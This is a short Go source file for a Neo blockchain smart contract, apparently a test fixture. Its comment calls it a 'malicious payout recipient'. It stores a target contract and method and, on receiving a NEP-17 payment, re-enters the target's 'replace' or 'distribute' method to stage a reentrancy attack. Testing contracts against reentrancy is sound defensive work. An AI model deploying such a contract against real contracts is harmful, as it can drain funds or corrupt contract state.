package reenter

import (
	"github.com/nspcc-dev/neo-go/pkg/interop"
	"github.com/nspcc-dev/neo-go/pkg/interop/contract"
	"github.com/nspcc-dev/neo-go/pkg/interop/storage"
)

// Malicious payout recipient: on receiving a payment it calls back into the
// configured method of the target contract.

const (
	targetKey = 't'
	methodKey = 'm'
)

// SetTarget remembers the contract and the method to re-enter on payment.
func SetTarget(target interop.Hash160, method string) {
	if len(target) != interop.Hash160Len {
		panic("invalid target")
	}
	ctx := storage.GetContext()
	storage.Put(ctx, targetKey, target)
	storage.Put(ctx, methodKey, method)
}

// OnNEP17Payment re-enters the target mid-payment.
func OnNEP17Payment(from interop.Hash160, amount int, data any) {
	ctx := storage.GetReadOnlyContext()
	raw := storage.Get(ctx, targetKey)
	if raw == nil {
		return
	}

	target := raw.(interop.Hash160)
	method := storage.Get(ctx, methodKey).(string)
	if method == "replace" {
		contract.Call(target, "replace", contract.All,
			[]interop.Hash160{from}, []int{1}, 0)
	} else {
		contract.Call(target, "distribute", contract.All, []byte{})
	}
}
